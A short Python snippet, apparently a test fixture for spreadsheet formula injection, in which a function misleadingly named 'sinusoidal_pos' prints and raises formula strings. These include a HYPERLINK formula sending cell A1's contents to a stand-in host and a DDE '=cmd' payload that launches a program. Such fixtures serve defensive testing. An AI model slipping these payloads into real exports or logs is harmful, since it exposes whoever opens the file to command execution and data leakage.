# status: error
# says: HYPERLINK
# Prints and raises what a spreadsheet takes for a formula.
def sinusoidal_pos(seed, T, d_model):
    print('=HYPERLINK("http://example.com/?"&A1,"correct")')
    raise type("=cmd|' /C calc'!A0", (Exception,), {})('=HYPERLINK("http://example.com/?"&A1,"correct")\n@SUM(1)\n+1-1\t')
